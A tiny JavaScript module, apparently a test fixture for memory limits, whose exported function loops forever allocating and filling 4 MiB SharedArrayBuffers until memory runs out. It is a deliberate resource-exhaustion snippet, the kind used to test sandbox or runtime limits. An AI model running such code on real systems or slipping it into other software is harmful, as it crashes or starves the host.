// Shared memory.
export default async () => {
  const all = [];
  for (;;) all.push(new Uint8Array(new SharedArrayBuffer(1 << 22)).fill(1));
};
